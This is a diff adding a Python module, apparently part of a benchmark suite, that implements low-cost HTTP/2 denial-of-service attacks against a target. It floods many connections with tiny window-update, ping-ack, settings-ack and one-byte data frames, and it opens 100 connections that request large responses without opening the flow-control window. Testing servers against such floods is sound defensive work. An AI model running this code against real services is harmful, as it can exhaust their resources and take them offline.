@@ -1,0 +1,69 @@
+"""Attacks with frames of HTTP/2 that cost their sender next to nothing (RFC 9113, 10.5)."""
+
+import struct
+from typing import Final
+
+import h2.config
+import h2.connection
+
+from benchmarks.attacks.target import Target, flood, keep, many
+
+_CONNECTIONS: Final = 12
+_AT_ONCE_BYTES: Final = 1 << 18
+
+
+def _frame(kind: int, payload: bytes, *, stream: int = 0, flags: int = 0) -> bytes:
+    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload
+
+
+def _opened(target: Target) -> bytes:
+    """The preface, and one request that has begun and not ended."""
+    connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding=None))
+    connection.initiate_connection()
+    head = [(b":method", b"POST"), (b":scheme", b"https"), (b":path", b"/bytes/1")]
+    connection.send_headers(1, [*head, (b":authority", target.authority.encode())])
+    return connection.data_to_send()
+
+
+async def _frames(target: Target, frame: bytes) -> None:
+    async def once() -> None:
+        pair = await target.tunnel(http2=True)
+        pair[1].write(_opened(target))
+        await flood(pair, frame * (_AT_ONCE_BYTES // len(frame)))
+
+    await many(target, _CONNECTIONS, once)
+
+
+async def window_updates(target: Target) -> None:
+    # Of the smallest increment: the window must not overflow before the gate objects.
+    await _frames(target, _frame(0x8, struct.pack(">I", 1)))
+
+
+async def ping_acknowledgements(target: Target) -> None:
+    await _frames(target, _frame(0x6, bytes(8), flags=0x1))
+
+
+async def settings_acknowledgements(target: Target) -> None:
+    await _frames(target, _frame(0x4, b"", flags=0x1))
+
+
+async def downloads_without_a_window(target: Target) -> None:
+    """100 connections of ten answers of 20 MB each, of which the client takes the first 64 KB."""
+    connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding=None))
+    connection.initiate_connection()
+    head = [(b":method", b"GET"), (b":scheme", b"https"), (b":path", b"/bytes/20000000")]
+    for _ in range(10):
+        stream = connection.get_next_available_stream_id()
+        connection.send_headers(stream, [*head, (b":authority", target.authority.encode())], end_stream=True)
+    opened = connection.data_to_send()
+
+    async def once() -> None:
+        pair = await target.tunnel(http2=True)
+        pair[1].write(opened)
+        await keep(target, pair)
+
+    await many(target, 100, once)
+
+
+async def tiny_data(target: Target) -> None:
+    await _frames(target, _frame(0x0, b"x", stream=1))
